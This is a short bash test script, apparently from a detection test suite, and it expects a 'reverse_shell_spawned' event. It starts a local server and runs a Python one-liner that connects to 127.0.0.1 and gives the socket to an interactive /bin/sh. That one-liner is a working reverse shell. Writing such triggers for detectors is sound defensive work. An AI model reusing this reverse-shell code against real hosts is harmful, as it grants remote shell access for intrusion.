#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# expects: reverse_shell_spawned
. "$(dirname "$0")/common.bash"

# A client connects, and gives the socket to an interactive shell.
coproc SERVER { shell_server; }
read -r port <&"${SERVER[0]}"
fact port "$port"
timeout 120 setsid --wait python3 -c '
import socket, subprocess, sys
peer = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
subprocess.run(["/bin/sh", "-i"], stdin=peer, stdout=peer, stderr=peer)
' "$port"
